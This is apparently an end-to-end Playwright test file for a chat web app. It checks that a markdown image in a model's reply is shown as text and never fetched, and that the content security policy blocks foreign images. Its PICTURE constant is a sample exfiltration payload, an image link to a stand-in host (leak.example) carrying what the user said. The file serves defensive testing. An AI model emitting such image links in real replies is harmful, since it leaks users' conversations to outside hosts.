"""Nothing that a model writes calls out, and the content policy would stop it."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.conftest import Server, StartServer
from tests.e2e.studio_page import StudioPage, open_context

pytestmark = pytest.mark.e2e
PICTURE = "![a pretty picture](https://leak.example/?what=you-said)"
LEAK = "https://leak.example"
# What the policy says when a page that was fooled draws a foreign picture all the same.
DRAW_FOREIGN_PICTURE = """() => new Promise((tell) => {
  document.addEventListener('securitypolicyviolation', (event) => tell(event.effectiveDirective));
  document.body.append(Object.assign(new Image(), {src: 'https://leak.example/x.png'}));
})"""


@pytest.fixture(scope="module")
def server(start_server: StartServer) -> Server:
    return start_server(engine="scripted")


@pytest.fixture(scope="module")
def studio(server: Server, browser: Browser) -> Iterator[StudioPage]:
    """The owner's tab in a studio with one persona and one talk."""
    context = open_context(browser)
    tab = StudioPage(context, server.url)
    tab.open(server.owner_link)
    tab.press("use-chef")
    tab.page.wait_for_url("**/chat?c=1")
    yield tab
    context.close()


def test_a_picture_in_a_reply_is_shown_as_words_and_nothing_is_fetched(studio: StudioPage) -> None:
    asked: list[str] = []
    studio.page.on("request", lambda request: asked.append(request.url))
    studio.say(PICTURE)
    expect(studio.theirs.last).to_contain_text("a pretty picture")
    expect(studio.theirs.last.locator("img[src^='http']:not([src*='localhost'])")).to_have_count(0)
    assert [url for url in asked if url.startswith(LEAK)] == []
    assert studio.console == []


def test_the_policy_stops_a_foreign_picture_even_where_a_page_draws_it(studio: StudioPage) -> None:
    assert studio.page.evaluate(DRAW_FOREIGN_PICTURE) == "img-src"
    studio.console.clear()
